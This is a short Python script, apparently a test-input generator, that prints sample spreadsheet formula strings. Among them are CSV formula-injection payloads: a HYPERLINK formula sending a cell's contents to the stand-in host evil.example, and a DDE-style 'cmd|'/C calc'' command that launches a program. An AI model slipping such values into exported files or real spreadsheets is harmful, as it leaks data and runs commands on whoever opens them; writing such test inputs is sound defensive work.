"""Prints what a spreadsheet would take for a formula."""

print("=HYPERLINK(\"http://evil.example/?\"&A1,\"passed\")")
print("@SUM(1+1)*cmd|'/C calc'!A0")
print("+1+1\t-2+3\t\"\"\"\n,,,")
print("=100")
